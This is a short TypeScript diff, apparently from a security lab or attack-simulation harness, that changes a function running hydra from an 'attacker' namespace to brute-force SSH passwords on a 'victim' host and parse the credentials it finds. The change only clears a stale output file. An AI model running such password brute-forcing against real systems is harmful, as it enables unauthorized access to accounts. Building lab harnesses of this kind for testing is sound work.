@@ -31,6 +31,7 @@ export async function bruteForce(ctx: StageContext, user: string, words: string[
   const list = join(ctx.dir, 'wordlist.txt');
   const out = join(ctx.dir, 'hydra.json');
   writeFileSync(list, `${words.join('\n')}\n`);
+  rmSync(out, { force: true }); // hydra appends to its output file
   await inNs(ctx, ctx.ns.attacker, 'hydra', ['-I', '-f', '-t', '4', '-w', '5', '-l', user, '-P', list, '-o', out, '-b', 'json', `ssh://${ctx.victim}:22`], 90_000, ctx.dir);
   const found = (JSON.parse(readFileSync(out, 'utf8')) as { results?: Array<{ login: string; password: string }> }).results ?? [];
   const hit = found.find((r) => r.login === user);
